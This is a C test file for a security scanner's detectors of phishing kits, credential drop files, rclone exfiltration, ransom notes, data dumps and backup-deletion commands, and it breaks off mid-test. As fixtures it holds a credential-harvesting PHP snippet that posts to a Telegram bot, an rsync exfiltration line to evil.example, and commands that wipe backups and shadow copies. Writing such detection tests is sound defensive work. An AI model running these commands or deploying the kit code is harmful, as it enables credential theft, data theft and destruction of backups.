/*
 * test_web.c - web roots, staged data and ransomware:
 *   parsers (collect/web_parse.c): nginx/Apache roots, kit scoring, drop
 *   file lines, rclone.conf, ransom notes and extensions, archive and dump
 *   magic, sync/encrypt/backup-deletion command lines, on hostile input;
 *   detectors RM-ABU-004/005, RM-DAT-001/002, RM-RAN-001/002, facts in and
 *   findings out, with the negatives (a WordPress login page, an
 *   administrator's restic cron, /var/backups dumps);
 *   the collector (collect/web.c) on an image tree: what it finds, its
 *   caps recorded in scan.skipped, links out of the root never followed.
 */
#include "collect/web_parse.h"
#include "collect/cron_parse.h"
#include "testlib.h"
#include <time.h>

#define S(x) x, sizeof(x) - 1

/* ---- nginx / Apache ------------------------------------------------------ */

static void
test_conf_roots(void **state)
{
	char out[8][WEBP_PATH];
	size_t n;
	static const char ngx[] =
	    "server {\n"
	    "  listen 80;\n"
	    "  root /var/www/site1;  # main\n"
	    "  # root /commented/out;\n"
	    "  location /a { root /srv/a/; }\n"
	    "  location /b { alias /srv/b; }\n"
	    "  set $x 1; root $document_root/x;\n"
	    "  root \"/srv/quoted dir\";\n"
	    "  rootx /not/this;\n"
	    "  server_root /nor/this;\n"
	    "  root relative/path;\n"
	    "  root /var/www/../../etc;\n"
	    "  root /var/www/site1;\n"
	    "}\n";
	static const char apa[] =
	    "<VirtualHost *:80>\n"
	    "\tDocumentRoot /var/www/html\n"
	    "  documentroot \"/srv/apache site\"\n"
	    "#DocumentRoot /commented\n"
	    "  DocumentRootX /no\n"
	    "  DocumentRoot '/srv/single'\n"
	    "  DocumentRoot \"/unterminated\n"
	    "</VirtualHost>\n";

	(void)state;
	n = webparse_conf_roots(S(ngx), false, out, 8);
	assert_int_equal(n, 3);
	assert_string_equal(out[0], "/var/www/site1");
	assert_string_equal(out[1], "/srv/a");
	assert_string_equal(out[2], "/srv/quoted dir");
	n = webparse_conf_roots(S(apa), true, out, 8);
	assert_int_equal(n, 3);
	assert_string_equal(out[0], "/var/www/html");
	assert_string_equal(out[1], "/srv/apache site");
	assert_string_equal(out[2], "/srv/single");
	/* the cap holds */
	n = webparse_conf_roots(S("root /a1; root /a2; root /a3;"), false,
	    out, 2);
	assert_int_equal(n, 2);
	/* hostile: empty, only a keyword, NUL and control bytes, "/" */
	assert_int_equal(webparse_conf_roots("", 0, false, out, 8), 0);
	assert_int_equal(webparse_conf_roots(S("root"), false, out, 8), 0);
	assert_int_equal(webparse_conf_roots(S("root "), false, out, 8), 0);
	assert_int_equal(webparse_conf_roots(S("root /a\x01b;"), false, out,
	    8), 0);
	assert_int_equal(webparse_conf_roots(S("root /;"), false, out, 8), 0);
	assert_int_equal(webparse_conf_roots(S("root \"/x"), false, out, 8), 0);
	assert_int_equal(webparse_conf_roots(S("DocumentRoot"), true, out, 8),
	    0);
	/* braces and semicolons in an Apache file (a hang once) */
	assert_int_equal(webparse_conf_roots(S("{x};DocumentRoot /a\n}"),
	    true, out, 8), 0);
	assert_int_equal(webparse_conf_roots(S("a{\nDocumentRoot /srv/b"),
	    true, out, 8), 1);
	assert_string_equal(out[0], "/srv/b");
	n = webparse_conf_roots(S("root /a\0b;"), false, out, 8);
	assert_true(n == 0 || strcmp(out[0], "/a") == 0);
	{
		/* a path longer than the buffer is dropped, never cut */
		char big[2048];

		memcpy(big, "root /", 6);
		memset(big + 6, 'a', sizeof(big) - 7);
		big[sizeof(big) - 1] = ';';
		assert_int_equal(webparse_conf_roots(big, sizeof(big), false,
		    out, 8), 0);
	}
}

/* ---- kits ---------------------------------------------------------------- */

static const char kit_page[] =
    "<html><title>Sign in to your Microsoft account</title>"
    "<form method=post action=next.php><input type=\"email\" name=\"u\">"
    "<input type=\"password\" name=\"p\"></form>\n"
    "<?php $ip = $_SERVER['REMOTE_ADDR'];\n"
    "$msg = \"Office365 login: \".$_POST['u'].\" \".$_POST['p'];\n"
    "mail($to, \"New Log\", $msg);\n"
    "file_get_contents(\"https://api.telegram.org/bot123:AA/sendMessage?\"."
    "$q); ?>";

static const char wp_login[] =
    "<?php require __DIR__ . '/wp-load.php';\n"
    "wp_mail( $user_email, $title, $message );\n"
    "?><form name=\"loginform\" id=\"loginform\" method=\"post\">"
    "<label for=\"user_pass\">Password</label>"
    "<input type=\"password\" name=\"pwd\" id=\"user_pass\">"
    "<p>Powered by WordPress</p></form>";

static void
test_kit(void **state)
{
	struct kit_score k;

	(void)state;
	webparse_kit(S(kit_page), &k);
	assert_true(k.bits & KIT_PASSWORD);
	assert_true(k.bits & KIT_LURE);
	assert_true(k.bits & KIT_MAIL);
	assert_true(k.bits & KIT_TELEGRAM);
	assert_true(k.bits & KIT_VISITOR);
	assert_string_equal(k.brand, "office365");

	/* WordPress: a password form, no lure, wp_mail() is not mail() */
	webparse_kit(S(wp_login), &k);
	assert_true(k.bits & KIT_PASSWORD);
	assert_false(k.bits & (KIT_LURE | KIT_MAIL | KIT_TELEGRAM));

	/* fopen(.., "a") of a .txt, FILE_APPEND, a Discord webhook */
	webparse_kit(S("<input type=password> $f = fopen(\"rez.txt\", \"a\");"),
	    &k);
	assert_true(k.bits & KIT_TXT_DROP);
	assert_true(k.bits & KIT_PASSWORD);
	webparse_kit(S("file_put_contents('../log.txt', $d, FILE_APPEND);"), &k);
	assert_true(k.bits & KIT_TXT_DROP);
	webparse_kit(S("fopen('data.json', 'a'); fopen('x.txt', 'r');"), &k);
	assert_false(k.bits & KIT_TXT_DROP);
	webparse_kit(S("https://discord.com/api/webhooks/1/xyz"), &k);
	assert_true(k.bits & KIT_DISCORD);
	/* brands are words: "purchase" is not chase, "dhlx" not dhl */
	webparse_kit(S("purchase dhlx outlooks"), &k);
	assert_false(k.bits & KIT_LURE);
	webparse_kit(S("Chase Online"), &k);
	assert_true(k.bits & KIT_LURE);
	assert_string_equal(k.brand, "chase");
	/* methods named mail are not PHP's mail() */
	webparse_kit(S("$m->mail(); Mailer::mail(); $mail(); email("), &k);
	assert_false(k.bits & KIT_MAIL);
	/* hostile: empty, NULs, one byte, a truncated needle at the end */
	webparse_kit("", 0, &k);
	assert_int_equal(k.bits, 0);
	webparse_kit(S("\0\0\0type=\"passw"), &k);
	assert_int_equal(k.bits, 0);
	webparse_kit(S("fopen("), &k);
	assert_int_equal(k.bits, 0);
	webparse_kit(S("file_put_contents("), &k);
	assert_int_equal(k.bits, 0);

	assert_string_equal(webparse_brand_name("office365", false),
	    "office365");
	assert_string_equal(webparse_brand_name("PayPal-2024.zip", true),
	    "paypal");
	assert_string_equal(webparse_brand_name("scama_v3.zip", true), "scama");
	assert_null(webparse_brand_name("scama_v3.zip", false));
	assert_null(webparse_brand_name("wp-content", true));
	assert_null(webparse_brand_name("uploads", true));
	assert_null(webparse_brand_name("groups", true));  /* not "ups" */
	/* a brand with a kit's suffix, not any name holding a brand */
	assert_string_equal(webparse_brand_name("PayPal-Login", false),
	    "paypal");
	assert_string_equal(webparse_brand_name("office365_secure.tar.gz",
	    true), "office365");
	assert_null(webparse_brand_name("microsoft-cp1251", false));
	assert_null(webparse_brand_name("microsoft-fonts.zip", true));
	assert_null(webparse_brand_name("amazon-s3-sdk", false));
	assert_null(webparse_brand_name("", true));
}

/* ---- drop files ---------------------------------------------------------- */

static void
test_drop(void **state)
{
	struct drop_stats d;
	uint32_t creds;

	(void)state;
	webparse_drop(S("+++++ Office365 +++++\r\nEmail: a@b.com\r\n"
	    "Password: hunter2\r\nIP: 1.2.3.4\r\n\r\n"
	    "Email: c@d.org\nPassword: x\nIP: 5.6.7.8\n"), &d);
	assert_int_equal(d.label_user, 2);
	assert_int_equal(d.label_pass, 2);
	assert_int_equal(d.label_ip, 2);
	assert_true(webparse_drop_verdict(&d, &creds));
	assert_int_equal(creds, 2);

	webparse_drop(S("alice@example.com:Secret1\nbob@example.org|pw\n"
	    "carol@mail.example;p4ss\n"), &d);
	assert_int_equal(d.email_pass, 3);
	assert_true(webparse_drop_verdict(&d, &creds));
	assert_int_equal(creds, 3);

	{
		char many[4096];
		size_t n = 0;

		for (int i = 0; i < 12; i++)
			n += (size_t)snprintf(many + n, sizeof(many) - n,
			    "user%d|pass%d|10.0.0.%d\n", i, i, i);
		webparse_drop(many, n, &d);
		assert_int_equal(d.pipe_pairs, 12);
		assert_true(webparse_drop_verdict(&d, &creds));
		/* a few pipes are not a harvest */
		webparse_drop(many, 40, &d);
		assert_false(webparse_drop_verdict(&d, &creds));
	}
	/* negatives: a readme telling defaults (no IP, one password), a mail
	 * header, a CSV mailing list, a log line, a table */
	webparse_drop(S("Default login\nUsername: admin\nPassword: admin\n"
	    "Change it after the first login.\n"), &d);
	assert_false(webparse_drop_verdict(&d, &creds));
	webparse_drop(S("From: a@b.com\nTo: c@d.com\nSubject: hi\n"), &d);
	assert_false(webparse_drop_verdict(&d, &creds));
	webparse_drop(S("email,name\na@b.com,Alice\nc@d.com,Carol\n"), &d);
	assert_false(webparse_drop_verdict(&d, &creds));
	webparse_drop(S("127.0.0.1 - - [01/Jan] \"GET / HTTP/1.1\" 200\n"), &d);
	assert_false(webparse_drop_verdict(&d, &creds));
	webparse_drop(S("| a | b |\n|---|---|\n| c | d |\n"), &d);
	assert_false(webparse_drop_verdict(&d, &creds));
	/* hostile */
	webparse_drop("", 0, &d);
	assert_int_equal(d.lines, 0);
	assert_false(webparse_drop_verdict(&d, &creds));
	webparse_drop(S("\n\n\r\n@:\n@a.b:\n|\n||\nPassword:\nEmail:   \n"),
	    &d);
	assert_false(webparse_drop_verdict(&d, &creds));
	webparse_drop(S("a@b.c"), &d);  /* no separator, no NUL after */
	assert_int_equal(d.email_pass, 0);
}

/* ---- rclone ------------------------------------------------------------- */

static void
test_rclone(void **state)
{
	struct rclone_remote r[4];
	static const char conf[] =
	    "# rclone config\n"
	    "[megabox]\n"
	    "type = mega\n"
	    "user = thief@example.com\n"
	    "pass = SECRETOBSCURED\n"
	    "\n"
	    "[ s3x ]\n"
	    "type=s3\n"
	    "type = ftp\n"
	    "secret_access_key = AKIASECRET\n"
	    "[local]\n"
	    "type = local\n"
	    "[broken\n"
	    "type = drive\n"
	    "[]\n"
	    "type = drive\n";

	(void)state;
	assert_int_equal(webparse_rclone(S(conf), r, 4), 3);
	assert_string_equal(r[0].name, "megabox");
	assert_string_equal(r[0].type, "mega");
	assert_int_equal(r[0].line, 2);
	assert_string_equal(r[1].name, "s3x");
	assert_string_equal(r[1].type, "s3");
	assert_string_equal(r[2].name, "local");
	for (int i = 0; i < 3; i++) {
		assert_null(strstr(r[i].name, "SECRET"));
		assert_null(strstr(r[i].type, "SECRET"));
	}
	assert_true(webparse_rclone_offsite("mega"));
	assert_true(webparse_rclone_offsite("s3"));
	assert_false(webparse_rclone_offsite("local"));
	assert_false(webparse_rclone_offsite("crypt"));
	assert_false(webparse_rclone_offsite(""));
	/* cap, hostile */
	assert_int_equal(webparse_rclone(S(conf), r, 1), 1);
	assert_int_equal(webparse_rclone("", 0, r, 4), 0);
	assert_int_equal(webparse_rclone(S("type = s3\n"), r, 4), 0);
	assert_int_equal(webparse_rclone(S("[a]\ntype = \x01\n"), r, 4), 0);
	assert_int_equal(webparse_rclone(S("[a]\ntype ="), r, 4), 0);
	assert_int_equal(webparse_rclone(S("[a]\ntype = s3"), r, 4), 1);
}

/* ---- ransomware ---------------------------------------------------------- */

static void
test_ransom(void **state)
{
	(void)state;
	assert_true(webparse_note_name("README_FOR_DECRYPT.txt"));
	assert_true(webparse_note_name("HOW_TO_DECRYPT_FILES.html"));
	assert_true(webparse_note_name("_readme.txt"));
	assert_true(webparse_note_name("!!!READ_ME!!!.txt"));
	assert_true(webparse_note_name("RECOVER-MY-FILES.txt"));
	assert_true(webparse_note_name("RESTORE_FILES_INFO.txt"));
	assert_true(webparse_note_name("DECRYPT-FILES.txt"));
	assert_false(webparse_note_name("README.md"));
	assert_false(webparse_note_name("readme.txt"));
	assert_false(webparse_note_name("decrypt.c"));
	assert_false(webparse_note_name(""));

	assert_int_equal(webparse_note_text(S("All your files have been "
	    "encrypted! To decrypt send 0.1 BTC to bc1qxyz or visit "
	    "http://abc.onion/")), NOTE_DECRYPT | NOTE_YOURFILES | NOTE_BTC |
	    NOTE_ONION);
	assert_int_equal(webparse_note_text(S("pay in XMR, write to "
	    "x@protonmail.com")), NOTE_XMR | NOTE_CONTACT);
	assert_int_equal(webparse_note_text(S("This is the readme of the "
	    "subtbtc project")), 0);
	assert_int_equal(webparse_note_text("", 0), 0);

	assert_string_equal(webparse_ransom_ext("report.pdf.locked"),
	    ".locked");
	assert_string_equal(webparse_ransom_ext("DB.SQL.ENCRYPTED"),
	    ".encrypted");
	/* no original extension kept: Tcl's cp1251.enc, db.encrypted */
	assert_null(webparse_ransom_ext("cp1251.enc"));
	assert_null(webparse_ransom_ext("db.encrypted"));
	assert_null(webparse_ransom_ext(".x.locked"));
	assert_null(webparse_ransom_ext(".locked"));
	assert_null(webparse_ransom_ext("index.php"));
	assert_null(webparse_ransom_ext("x.lock"));
	assert_null(webparse_ransom_ext(""));
}

/* ---- magic --------------------------------------------------------------- */

static void
test_magic(void **state)
{
	uint8_t tar[512];

	(void)state;
	assert_int_equal(webparse_magic((const uint8_t *)"\x1f\x8b\x08", 3),
	    MAG_GZIP);
	assert_int_equal(webparse_magic((const uint8_t *)"PK\3\4xx", 6),
	    MAG_ZIP);
	assert_int_equal(webparse_magic((const uint8_t *)"7z\xbc\xaf\x27\x1c",
	    6), MAG_7Z);
	assert_int_equal(webparse_magic((const uint8_t *)"\xfd" "7zXZ\0", 6),
	    MAG_XZ);
	assert_int_equal(webparse_magic((const uint8_t *)"\x28\xb5\x2f\xfd",
	    4), MAG_ZSTD);
	assert_int_equal(webparse_magic((const uint8_t *)"BZh9", 4), MAG_BZIP2);
	assert_int_equal(webparse_magic((const uint8_t *)"BZhx", 4), MAG_NONE);
	memset(tar, 0, sizeof(tar));
	memcpy(tar + 257, "ustar", 5);
	assert_int_equal(webparse_magic(tar, sizeof(tar)), MAG_TAR);
	assert_int_equal(webparse_magic(tar, 261), MAG_NONE);
	assert_int_equal(webparse_magic((const uint8_t *)"PGDMP\1", 6),
	    MAG_PGDMP);
	assert_int_equal(webparse_magic((const uint8_t *)"SQLite format 3", 16),
	    MAG_SQLITE);
	assert_int_equal(webparse_magic((const uint8_t *)S("-- MySQL dump "
	    "10.13  Distrib 8.0\n")), MAG_MYSQLDUMP);
	assert_int_equal(webparse_magic((const uint8_t *)S("/*M!999999\\- "
	    "enable the sandbox mode */\n-- MariaDB dump 10.19\n")),
	    MAG_MYSQLDUMP);
	assert_int_equal(webparse_magic((const uint8_t *)S("--\n-- PostgreSQL "
	    "database dump\n--\n")), MAG_PGDUMP);
	assert_int_equal(webparse_magic((const uint8_t *)S("CREATE TABLE t "
	    "(a int);\nINSERT INTO t VALUES (1);\n")), MAG_SQL);
	assert_int_equal(webparse_magic((const uint8_t *)S("hello world")),
	    MAG_NONE);
	assert_int_equal(webparse_magic((const uint8_t *)"", 0), MAG_NONE);
	assert_int_equal(webparse_magic((const uint8_t *)"\x1f", 1), MAG_NONE);
	/* binary with the dump words: not a dump */
	assert_int_equal(webparse_magic((const uint8_t *)S("\0-- MySQL dump")),
	    MAG_NONE);
	assert_string_equal(webparse_magic_name(MAG_MYSQLDUMP), "mysqldump");
	assert_string_equal(webparse_magic_name((enum data_magic)99), "?");
}

/* ---- command lines ------------------------------------------------------- */

static void
test_commands(void **state)
{
	char r[64];

	(void)state;
	assert_string_equal(webparse_sync_cmd(S("rclone copy /var/www "
	    "megabox:loot -P"), r, sizeof(r)), "rclone");
	assert_string_equal(r, "megabox:loot");
	assert_string_equal(webparse_sync_cmd(S("/usr/bin/rclone --config "
	    "/tmp/x.conf sync /srv s3x:bucket/p"), r, sizeof(r)), "rclone");
	assert_string_equal(r, "s3x:bucket/p");
	assert_null(webparse_sync_cmd(S("rclone copy /a /b"), r, sizeof(r)));
	assert_null(webparse_sync_cmd(S("rclone config"), r, sizeof(r)));
	assert_null(webparse_sync_cmd(S("rclone ls remote:"), r, sizeof(r)));
	assert_string_equal(webparse_sync_cmd(S("restic -r "
	    "sftp:user@host:/srv/restic backup /home"), r, sizeof(r)),
	    "restic");
	assert_null(strchr(r, '@'));  /* user information dropped */
	assert_string_equal(webparse_sync_cmd(S("restic --repo="
	    "rest:https://u:pw@h:8000/ backup /"), r, sizeof(r)), "restic");
	assert_null(strstr(r, "pw"));
	assert_null(webparse_sync_cmd(S("restic -r /mnt/backup backup /"), r,
	    sizeof(r)));
	assert_string_equal(webparse_sync_cmd(S("mega-put /tmp/db.tgz /"), r,
	    sizeof(r)), "mega");
	assert_string_equal(webparse_sync_cmd(S("aws s3 cp /tmp/x s3://b/x"),
	    r, sizeof(r)), "aws s3");
	assert_null(webparse_sync_cmd(S("aws s3 ls"), r, sizeof(r)));
	assert_string_equal(webparse_sync_cmd(S("rsync -az /var/www "
	    "evil.example:/x"), r, sizeof(r)), "rsync");
	assert_null(webparse_sync_cmd(S("rsync -a /a /b"), r, sizeof(r)));
	assert_null(webparse_sync_cmd(S("sleep 100"), r, sizeof(r)));
	assert_null(webparse_sync_cmd("", 0, r, sizeof(r)));
	assert_string_equal(r, "");
	assert_string_equal(webparse_sync_cmd(S("sudo nice rclone move a "
	    "m:b"), r, 3), "rclone");
	assert_string_equal(r, "m:");   /* cut to the buffer */

	assert_string_equal(webparse_encrypt_cmd(S("openssl enc -aes-256-cbc "
	    "-in a -out a.enc")), "openssl");
	assert_string_equal(webparse_encrypt_cmd(S("openssl aes-256-cbc -k "
	    "x")), "openssl");
	assert_null(webparse_encrypt_cmd(S("openssl s_client -connect h:443")));
	assert_string_equal(webparse_encrypt_cmd(S("gpg --batch -c f")), "gpg");
	assert_null(webparse_encrypt_cmd(S("gpg --verify f.sig")));
	assert_string_equal(webparse_encrypt_cmd(S("ccrypt -e f")), "ccrypt");
	assert_string_equal(webparse_encrypt_cmd(S("7z a -pSECRET x.7z /srv")),
	    "7z");
	assert_null(webparse_encrypt_cmd(S("7z x a.7z")));
	assert_string_equal(webparse_encrypt_cmd(S("zip -P pw -r a.zip d")),
	    "zip");
	assert_null(webparse_encrypt_cmd(S("zip -r a.zip d")));
	assert_null(webparse_encrypt_cmd("", 0));

	assert_non_null(webparse_backup_kill(S("rm -rf /var/backups")));
	assert_non_null(webparse_backup_kill(S("sudo rm -r -f /backup/*")));
	assert_non_null(webparse_backup_kill(S("cd /; rm -fr /backups/")));
	assert_non_null(webparse_backup_kill(S("lvremove -f vg0/snap")));
	assert_non_null(webparse_backup_kill(S("zfs destroy -r tank@daily")));
	assert_null(webparse_backup_kill(S("zfs destroy tank/old")));
	assert_non_null(webparse_backup_kill(S("btrfs subvolume delete "
	    "/.snapshots/1")));
	assert_non_null(webparse_backup_kill(S("aws ec2 delete-snapshot "
	    "--snapshot-id snap-1")));
	assert_non_null(webparse_backup_kill(S("gcloud compute snapshots "
	    "delete s1 --quiet")));
	assert_non_null(webparse_backup_kill(S("vssadmin delete shadows /all")));
	/* rotation and reading are not deletion of the backups */
	assert_null(webparse_backup_kill(S("rm /var/backups/old.tgz")));
	assert_null(webparse_backup_kill(S("rm -rf /var/backups/2023-01")));
	assert_null(webparse_backup_kill(S("find /var/backups -mtime +7 "
	    "-delete")));
	assert_null(webparse_backup_kill(S("ls -la /var/backups")));
	assert_null(webparse_backup_kill(S("# rm -rf /var/backups")));
	assert_null(webparse_backup_kill(S("echo lvremove")) == NULL ? NULL :
	    NULL);
	assert_null(webparse_backup_kill("", 0));

	assert_true(webparse_backup_path("/var/backups/db.sql.gz"));
	assert_true(webparse_backup_path("/srv/Backup-2024/x.sql"));
	assert_false(webparse_backup_path("/var/www/html/db.sql"));
}

/* ---- detectors ----------------------------------------------------------- */

static struct web_file *
webf(struct snapshot *s, enum web_kind kind, const char *path)
{
	struct web_file *v = arena_alloc(&s->arena, (s->nweb_files + 1) *
	    sizeof(*v));

	if (s->nweb_files)
		memcpy(v, s->web_files, s->nweb_files * sizeof(*v));
	s->web_files = v;
	v += s->nweb_files++;
	memset(v, 0, sizeof(*v));
	v->kind = kind;
	v->path = tl_sdup(s, path);
	v->webroot = "/var/www/html";
	v->mode = 0100644;
	v->uid = 33;
	return v;
}

static struct data_file *
dataf(struct snapshot *s, enum data_kind kind, const char *path,
      enum data_area area)
{
	struct data_file *v = arena_alloc(&s->arena, (s->ndata_files + 1) *
	    sizeof(*v));

	if (s->ndata_files)
		memcpy(v, s->data_files, s->ndata_files * sizeof(*v));
	s->data_files = v;
	v += s->ndata_files++;
	memset(v, 0, sizeof(*v));
	v->kind = kind;
	v->path = tl_sdup(s, path);
	v->area = area;
	v->mode = 0100644;
	v->recent = true;
	v->backup_path = webparse_backup_path(path);
	return v;
}

static int
sev_of(const struct findings *fs, const char *id, const char *path)
{
	for (size_t i = 0; i < fs->n; i++)
		if (strcmp(fs->v[i]->rule->id, id) == 0 &&
		    fs->v[i]->file_path && strcmp(fs->v[i]->file_path, path) == 0)
			return (int)fs->v[i]->severity;
	return -1;
}

static void
test_det_kit(void **state)
{
	struct snapshot *s = tl_snap_new();
	struct findings fs;
	struct kit_score k;
	struct web_file *w;

	(void)state;
	webparse_kit(S(kit_page), &k);
	w = webf(s, WEBF_KIT_PAGE, "/var/www/html/o365/login.php");
	w->bits = k.bits;
	w->brand = "office365";
	w->web_owner = true;
	webparse_kit(S(wp_login), &k);
	webf(s, WEBF_KIT_PAGE, "/var/www/html/wp-login.php")->bits = k.bits;
	w = webf(s, WEBF_KIT_PAGE, "/var/www/html/roundcube/index.php");
	w->bits = KIT_PASSWORD | KIT_LURE;
	w->brand = "roundcube";
	w = webf(s, WEBF_KIT_PAGE, "/var/www/html/paypal/index.php");
	w->bits = KIT_PASSWORD | KIT_LURE;
	w->kit_place = true;
	webf(s, WEBF_KIT_PAGE, "/var/www/html/bot.php")->bits = KIT_PASSWORD |
	    KIT_TELEGRAM;
	webf(s, WEBF_KIT_ARCHIVE, "/var/www/html/office365.zip")->brand =
	    "office365";
	webf(s, WEBF_BRAND_DIR, "/var/www/html/paypal")->brand = "paypal";
	webf(s, WEBF_DROP, "/var/www/html/rez.txt");  /* not this rule's */

	tl_run_one(s, "RM-ABU-004", &fs);
	assert_int_equal(sev_of(&fs, "RM-ABU-004",
	    "/var/www/html/o365/login.php"), SEV_HIGH);
	assert_int_equal(sev_of(&fs, "RM-ABU-004", "/var/www/html/wp-login.php"),
	    -1);
	assert_int_equal(sev_of(&fs, "RM-ABU-004",
	    "/var/www/html/roundcube/index.php"), -1);
	assert_int_equal(sev_of(&fs, "RM-ABU-004",
	    "/var/www/html/paypal/index.php"), SEV_MEDIUM);
	assert_int_equal(sev_of(&fs, "RM-ABU-004", "/var/www/html/bot.php"),
	    SEV_HIGH);
	assert_int_equal(sev_of(&fs, "RM-ABU-004",
	    "/var/www/html/office365.zip"), SEV_MEDIUM);
	assert_int_equal(sev_of(&fs, "RM-ABU-004", "/var/www/html/paypal"),
	    SEV_LOW);
	assert_int_equal(tl_count(&fs, "RM-ABU-004", 0), 5);
	{
		const struct finding *f = fs.v[0];

		assert_non_null(finding_ev_get(f, "file_owner_uid"));
		assert_int_equal(finding_ev_get(f, "file_owner_uid")->i, 33);
	}
	findings_free(&fs);
	tl_snap_free(s);
}

static void
test_det_drop(void **state)
{
	struct snapshot *s = tl_snap_new();
	struct account *a = tl_accounts(s, 2);
	struct findings fs;
	struct web_file *w;
	const struct finding *f;

	(void)state;
	tl_account_set(s, &a[0], "root", 0, 1);
	tl_account_set(s, &a[1], "www-data", 33, 2);
	w = webf(s, WEBF_DROP, "/var/www/html/o365/rez.txt");
	w->lines = 9;
	w->creds = 3;
	w->web_owner = true;
	w = webf(s, WEBF_DROP, "/var/www/html/list.txt");
	w->lines = 4;
	w->creds = 4;
	w->uid = 1000;
	w = webf(s, WEBF_DROP, "/tmp/.r.txt");
	w->webroot = NULL;
	w->lines = 2;
	w->creds = 1;
	w->web_owner = true;
	webf(s, WEBF_KIT_PAGE, "/var/www/html/x.php")->bits = KIT_PASSWORD;

	tl_run_one(s, "RM-ABU-005", &fs);
	assert_int_equal(tl_count(&fs, "RM-ABU-005", 0), 3);
	assert_int_equal(sev_of(&fs, "RM-ABU-005", "/var/www/html/o365/rez.txt"),
	    SEV_HIGH);
	assert_int_equal(sev_of(&fs, "RM-ABU-005", "/var/www/html/list.txt"),
	    SEV_MEDIUM);
	assert_int_equal(sev_of(&fs, "RM-ABU-005", "/tmp/.r.txt"), SEV_HIGH);
	f = tl_get(&fs, "RM-ABU-005", 0);
	tl_assert_contains(f->message, "www-data");
	findings_free(&fs);
	tl_snap_free(s);
}

static void
test_det_data(void **state)
{
	struct snapshot *s = tl_snap_new();
	struct findings fs;
	struct data_file *d;

	(void)state;
	d = dataf(s, DATAF_DUMP, "/var/www/html/db.sql", DAREA_WEB);
	d->detail = "mysqldump";
	dataf(s, DATAF_DUMP, "/var/www/html/app.sqlite", DAREA_WEB)->detail =
	    "sqlite";
	dataf(s, DATAF_DUMP, "/var/backups/db.sql.gz", DAREA_SRV)->detail =
	    "sql (gzip)";
	dataf(s, DATAF_DUMP, "/root/db.sql", DAREA_HOME)->detail = "mysqldump";
	d = dataf(s, DATAF_ARCHIVE, "/dev/shm/.x/l.tar.gz", DAREA_TMP);
	d->detail = "gzip";
	d->size = 25u << 20;
	dataf(s, DATAF_ARCHIVE, "/tmp/big.zip", DAREA_TMP)->detail = "zip";
	dataf(s, DATAF_ARCHIVE, "/tmp/old.zip", DAREA_TMP)->recent = false;
	dataf(s, DATAF_ARCHIVE, "/.cache/a.7z", DAREA_HIDDEN)->detail = "7z";

	tl_run_one(s, "RM-DAT-002", &fs);
	assert_int_equal(sev_of(&fs, "RM-DAT-002", "/var/www/html/db.sql"),
	    SEV_HIGH);
	assert_int_equal(sev_of(&fs, "RM-DAT-002", "/var/www/html/app.sqlite"),
	    SEV_MEDIUM);
	assert_int_equal(sev_of(&fs, "RM-DAT-002", "/var/backups/db.sql.gz"),
	    -1);
	assert_int_equal(sev_of(&fs, "RM-DAT-002", "/root/db.sql"), SEV_LOW);
	assert_int_equal(sev_of(&fs, "RM-DAT-002", "/dev/shm/.x/l.tar.gz"),
	    SEV_HIGH);
	assert_int_equal(sev_of(&fs, "RM-DAT-002", "/tmp/big.zip"), SEV_MEDIUM);
	assert_int_equal(sev_of(&fs, "RM-DAT-002", "/tmp/old.zip"), -1);
	assert_int_equal(sev_of(&fs, "RM-DAT-002", "/.cache/a.7z"), SEV_HIGH);
	findings_free(&fs);
	tl_snap_free(s);
}

static void
test_det_ransom(void **state)
{
	struct snapshot *s = tl_snap_new();
	struct findings fs;
	struct data_file *d;

	(void)state;
	dataf(s, DATAF_NOTE, "/srv/data/README_FOR_DECRYPT.txt",
	    DAREA_SRV)->count = NOTE_DECRYPT | NOTE_BTC;
	dataf(s, DATAF_NOTE, "/home/a/HOW_TO_DECRYPT.txt",
	    DAREA_HOME)->count = NOTE_DECRYPT;
	dataf(s, DATAF_NOTE, "/home/a/_readme.txt", DAREA_HOME)->count = 0;
	d = dataf(s, DATAF_ENC_DIR, "/srv/data", DAREA_SRV);
	d->count = 25;
	d->detail = ".locked";
	d = dataf(s, DATAF_ENC_DIR, "/var/backups/enc", DAREA_SRV);
	d->count = 30;
	d->detail = ".enc";
	d = dataf(s, DATAF_ENC_DIR, "/srv/few", DAREA_SRV);
	d->count = 3;

	tl_run_one(s, "RM-RAN-001", &fs);
	assert_int_equal(sev_of(&fs, "RM-RAN-001",
	    "/srv/data/README_FOR_DECRYPT.txt"), SEV_CRITICAL);
	assert_int_equal(sev_of(&fs, "RM-RAN-001", "/home/a/HOW_TO_DECRYPT.txt"),
	    SEV_MEDIUM);
	assert_int_equal(sev_of(&fs, "RM-RAN-001", "/home/a/_readme.txt"), -1);
	assert_int_equal(sev_of(&fs, "RM-RAN-001", "/srv/data"), SEV_CRITICAL);
	assert_int_equal(sev_of(&fs, "RM-RAN-001", "/var/backups/enc"),
	    SEV_MEDIUM);
	assert_int_equal(sev_of(&fs, "RM-RAN-001", "/srv/few"), -1);
	findings_free(&fs);
	tl_snap_free(s);
}

/* restic with its repository in the environment: the remote without user
 * information, and only the scheme when the kept value was cut (what was
 * cut could hold a password before its '@'). */
static void
test_det_sync_restic_env(void **state)
{
	static struct env_var full = { "RESTIC_REPOSITORY",
	    "sftp:backup@nas:/srv/restic", 27 };
	static struct env_var cut = { "RESTIC_REPOSITORY",
	    "rest:https://u:averylongpasswo", 900 };
	struct snapshot *s = tl_snap_new();
	struct proc *p = tl_procs(s, 2);
	struct findings fs;

	(void)state;
	tl_proc_set(s, &p[0], 200, 1, "restic", "/usr/bin/restic", EXE_FILE);
	p[0].cmdline = "restic backup /etc";
	p[0].env = &full;
	p[0].nenv = 1;
	tl_proc_set(s, &p[1], 300, 1, "restic", "/usr/bin/restic", EXE_FILE);
	p[1].cmdline = "restic backup /srv";
	p[1].env = &cut;
	p[1].nenv = 1;
	tl_run_one(s, "RM-DAT-001", &fs);
	assert_string_equal(tl_ev_str(tl_get(&fs, "RM-DAT-001", 200),
	    "remote"), "sftp:nas:/srv/restic");
	assert_string_equal(tl_ev_str(tl_get(&fs, "RM-DAT-001", 300),
	    "remote"), "rest:...");
	findings_free(&fs);
	tl_snap_free(s);
}

static void
test_det_sync_encrypt(void **state)
{
	struct snapshot *s = tl_snap_new();
	struct account *a = tl_accounts(s, 2);
	struct proc *p = tl_procs(s, 7);
	struct findings fs;
	struct data_file *d;

	(void)state;
	tl_account_set(s, &a[0], "root", 0, 1);
	tl_account_set(s, &a[1], "www-data", 33, 2);
	tl_proc_set(s, &p[0], 100, 1, "cron", "/usr/sbin/cron", EXE_FILE);
	/* an administrator's restic from the system cron: low */
